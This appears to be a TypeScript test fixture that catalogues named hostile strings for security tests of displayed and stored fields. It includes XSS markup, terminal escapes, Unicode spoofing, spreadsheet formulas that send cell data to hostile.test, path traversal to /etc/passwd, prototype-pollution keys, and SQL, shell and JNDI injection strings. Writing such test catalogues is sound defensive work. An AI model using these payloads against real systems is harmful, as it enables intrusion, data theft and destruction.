/**
 * Texts that somebody hostile would write into any field that a person, a log, a terminal, a spreadsheet or a file
 * system later shows or reads: job names, reasons, execution ids, status words, answers of external systems, cells.
 * Each has a name, so that a table of tests says which one went through.
 */
export type HostileKind =
  'markup' | 'terminal' | 'direction' | 'control' | 'formula' | 'path' | 'prototype' | 'format' | 'long';

export interface HostileText {
  readonly kind: HostileKind;
  readonly name: string;
  readonly text: string;
}

const char = (code: number): string => String.fromCodePoint(code);
const ESC = char(0x1b);
const BEL = char(0x07);

const of =
  (kind: HostileKind) =>
  ([name, text]: readonly [string, string]): HostileText => ({ kind, name, text });

/**
 * Every payload that runs sets `window.hostile`, or asks for /hostile: a test in a browser looks for both, and for
 * dialogs, instead of judging the text.
 */
const MARKUP: readonly HostileText[] = (
  [
    ['script element', '<script>window.hostile=1</script>'],
    ['script element that ends an attribute', '"><script>window.hostile=1</script>'],
    ['script element that ends a script', '</script><script>window.hostile=1</script>'],
    ['script element in odd case', '<ScRiPt/x>window.hostile=1</sCrIpT >'],
    ['script element in a textarea', '</textarea><script>window.hostile=1</script>'],
    ['script element in a title', '</title><script>window.hostile=1</script>'],
    ['script element in a comment', '--><script>window.hostile=1</script><!--'],
    ['script element in CDATA', ']]><script>window.hostile=1</script>'],
    ['script from elsewhere', '<script src=//hostile.test/x.js></script>'],
    ['image that fails', '<img src=x onerror=window.hostile=1>'],
    ['image that fails, without spaces', '<img/src=x/onerror=window.hostile=1>'],
    ['image that fails, never closed', '<img src=x onerror=window.hostile=1 '],
    ['image that tells', '<img src=/hostile>'],
    ['svg that loads', '<svg onload=window.hostile=1>'],
    ['svg with a script', '<svg><script>window.hostile=1</script></svg>'],
    ['svg that animates', '<svg><animate onbegin=window.hostile=1 attributeName=x dur=1s>'],
    [
      'mathematics with style',
      '<math><mtext><style><img src onerror=window.hostile=1></style></mtext></math>',
    ],
    ['template shuffle', '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>">'],
    ['details that open', '<details open ontoggle=window.hostile=1>'],
    ['field that takes the focus', '<input autofocus onfocus=window.hostile=1>'],
    ['body that loads', '<body onload=window.hostile=1>'],
    ['frame with a script', '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>'],
    ['frame of a script URL', '<iframe src="javascript:parent.hostile=1"></iframe>'],
    ['object of data', '<object data="data:text/html,<script>parent.hostile=1</script>"></object>'],
    ['link of a script URL', '<a href="javascript:window.hostile=1">retry</a>'],
    ['bare script URL', 'javascript:window.hostile=1'],
    ['bare script URL with a tab', 'java\tscript:window.hostile=1'],
    ['data URL', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+'],
    ['form that posts elsewhere', '<form action=//hostile.test><button>Release</button></form>'],
    ['base element', '<base href=//hostile.test/>'],
    ['meta refresh', '<meta http-equiv=refresh content="0;url=/hostile">'],
    ['style that tells', '<style>@import"/hostile";*{display:none}</style>'],
    ['attribute in double quotes', '" onmouseover="window.hostile=1" x="'],
    ['attribute in single quotes', "' onmouseover='window.hostile=1' x='"],
    ['attribute without quotes', 'x onmouseover=window.hostile=1'],
    ['end of a string in a script', "'-(window.hostile=1)-'"],
    ['entities', '&lt;script&gt;window.hostile=1&lt;/script&gt;&#60;img src=x onerror=window.hostile=1&#62;'],
    ['template expressions', '${window.hostile=1}{{constructor.constructor("window.hostile=1")()}}<%=7*7%>'],
    ['markdown link', '[log](javascript:window.hostile=1) ![x](/hostile)'],
    ['line separator before a script', `${char(0x2028)}window.hostile=1//`],
    ['full-width angle brackets', '＜script＞window.hostile=1＜/script＞'],
    ['element that names a global', '<form id=attributes><input name=hostile></form><a id=hostile>'],
  ] as const
).map(of('markup'));

const TERMINAL: readonly HostileText[] = (
  [
    ['colour', `${ESC}[31mFAILED${ESC}[0m`],
    ['clear screen', `${ESC}[2J${ESC}[H`],
    ['erase the line above', `done${ESC}[1A${ESC}[2Kfailed`],
    ['window title', `${ESC}]0;hostile${BEL}`],
    ['hyperlink', `${ESC}]8;;http://hostile.test${ESC}\\click${ESC}]8;;${ESC}\\`],
    ['clipboard', `${ESC}]52;c;cm0gLXJmIC8=${BEL}`],
    ['answer back', `${ESC}[6n${ESC}[c${char(0x05)}`],
    ['eight-bit control sequence', `${char(0x9b)}31m${char(0x9d)}0;hostile${char(0x9c)}`],
    ['alternate screen', `${ESC}[?1049h`],
    ['over-print', 'rm -rf /\rls       '],
    ['backspaces', `COMPLETED${'\b'.repeat(9)}FAILED   `],
  ] as const
).map(of('terminal'));

const DIRECTION: readonly HostileText[] = (
  [
    ['right-to-left override', `log_${char(0x202e)}txt.exe`],
    ['isolates', `${char(0x2066)}${char(0x2067)}DAILY${char(0x2069)}`],
    ['direction marks', `${char(0x200e)}A${char(0x200f)}B${char(0x061c)}`],
    ['zero-width characters', `PAY${char(0x200b)}${char(0x200d)}${char(0xfeff)}ROLL`],
    ['look-alikes', 'РАYRОLL'],
    ['many combining marks', `Z${'\u0301'.repeat(400)}`],
    ['tag characters', `A${char(0xe0041)}${char(0xe0042)}${char(0xe007f)}`],
    ['language of another direction', 'משימה بدء DAILY'],
  ] as const
).map(of('direction'));

const CONTROL: readonly HostileText[] = (
  [
    ['NUL', `BATCH${char(0)}RISK`],
    ['NUL alone', char(0)],
    ['line ends', 'one\r\ntwo\nthree\rfour'],
    ['forged header', 'x\r\nSet-Cookie: hostile=1\r\n\r\n<html>'],
    ['forged log line', '"}\n{"level":"info","msg":"released by admin"}\n'],
    ['every C0 character', String.fromCharCode(...Array.from({ length: 0x20 }, (_, code) => code))],
    ['every C1 character', String.fromCharCode(...Array.from({ length: 0x21 }, (_, code) => 0x7f + code))],
    ['line and paragraph separators', `a${char(0x2028)}b${char(0x2029)}c${char(0x85)}d`],
    ['byte order mark', `${char(0xfeff)}DAILY`],
    ['lone high surrogate', 'BATCH\ud800'],
    ['lone low surrogate', '\udc00RISK'],
    ['surrogates the wrong way round', '\udc00\ud800'],
    ['noncharacters', `${char(0xfffe)}${char(0xffff)}${char(0x1ffff)}`],
    ['white space only', ` \t${char(0xa0)}${char(0x3000)} `],
    ['empty', ''],
  ] as const
).map(of('control'));

const FORMULA: readonly HostileText[] = (
  [
    ['equals', '=1+1'],
    ['hyperlink', '=HYPERLINK("http://hostile.test?"&A1,"Log")'],
    ['command', "=cmd|' /C calc'!A0"],
    ['plus', "+cmd|' /C calc'!A0"],
    ['minus', '-2+3+cmd|"x"!A0'],
    ['at', '@SUM(1+1)'],
    ['tab first', '\t=1+1'],
    ['line end first', '\r=1+1'],
    ['line feed first', '\n=1+1'],
    ['full-width equals', '＝1+1'],
    ['full-width plus', '＋1+1'],
    ['full-width minus', '－1+1'],
    ['full-width at', '＠SUM(1)'],
    ['after a quote and a separator', '","=1+1'],
    ['after a semicolon', 'x;=1+1'],
    ['web service', '=WEBSERVICE("http://hostile.test/"&A1)'],
  ] as const
).map(of('formula'));

const PATHS: readonly HostileText[] = (
  [
    ['parents', '../../../../etc/passwd'],
    ['parents of Windows', '..\\..\\windows\\win.ini'],
    ['encoded parents', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
    ['twice encoded parents', '%252e%252e%252fetc'],
    ['absolute', '/etc/passwd'],
    ['drive', 'C:\\windows\\win.ini'],
    ['share', '\\\\hostile.test\\share'],
    ['device', 'CON'],
    ['device with an extension', 'NUL.txt'],
    ['alternate stream', 'log.txt::$DATA'],
    ['NUL before the extension', `log.txt${char(0)}.exe`],
    ['dots', '..'],
    ['quotes and semicolons', 'log";filename="x.exe'],
    ['query and fragment', 'A?x=1&y=2#z'],
    ['slash encoded twice over', '..%c0%af..%c0%afetc'],
    ['trailing dots', 'log.txt. . .'],
  ] as const
).map(of('path'));

const PROTOTYPE: readonly HostileText[] = (
  [
    ['prototype', '__proto__'],
    ['constructor', 'constructor'],
    ['prototype of the constructor', 'constructor.prototype.hostile'],
    ['text of an object', 'toString'],
    ['owner of names', 'hasOwnProperty'],
    ['definition of getters', '__defineGetter__'],
    ['JSON', '{"__proto__":{"hostile":1}}'],
    ['parameter', '__proto__=hostile||constructor=hostile'],
  ] as const
).map(of('prototype'));

const FORMATS: readonly HostileText[] = (
  [
    ['placeholders', '%s%d%n%j%o%O%c'],
    ['lookups', '${jndi:ldap://hostile.test/a}'],
    ['statement', "'; DROP TABLE runs; --"],
    ['statement in double quotes', '" OR ""="'],
    ['pattern for LIKE', '%_%\\'],
    ['shell', '$(touch /tmp/hostile);`id`|id&'],
    ['parameter separators', 'a=1||b=2||a=3'],
    ['numbers beyond double', '1e999'],
    ['not a number', 'NaN'],
    ['null', 'null'],
  ] as const
).map(of('format'));

const LONG: readonly HostileText[] = (
  [
    ['300 characters', 'x'.repeat(300)],
    ['10,000 characters', 'x'.repeat(10_000)],
    ['10,000 emoji', '\u{1f600}'.repeat(10_000)],
    ['one long word with markup', `<b>${'x'.repeat(5_000)}</b>`],
    ['10,000 lines', '\n'.repeat(10_000)],
    ['10,000 quotes', '"'.repeat(10_000)],
  ] as const
).map(of('long'));

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...MARKUP,
  ...TERMINAL,
  ...DIRECTION,
  ...CONTROL,
  ...FORMULA,
  ...PATHS,
  ...PROTOTYPE,
  ...FORMATS,
  ...LONG,
];

export const hostileTexts = (...kinds: readonly HostileKind[]): readonly HostileText[] =>
  HOSTILE_TEXTS.filter(({ kind }) => kinds.includes(kind));

/** Those that a text field of a few hundred characters takes, unless a rule on characters refuses them. */
export const SHORT_HOSTILE_TEXTS: readonly HostileText[] = HOSTILE_TEXTS.filter(
  ({ text }) => text.length <= 200,
);

/** What must hold after anything hostile has gone through: nobody has written to what all objects share. */
export function sharedPrototypesAreClean(): boolean {
  const added = [Object.prototype, Array.prototype].some((shared) => Object.keys(shared).length > 0);
  return !added && !('hostile' in {});
}
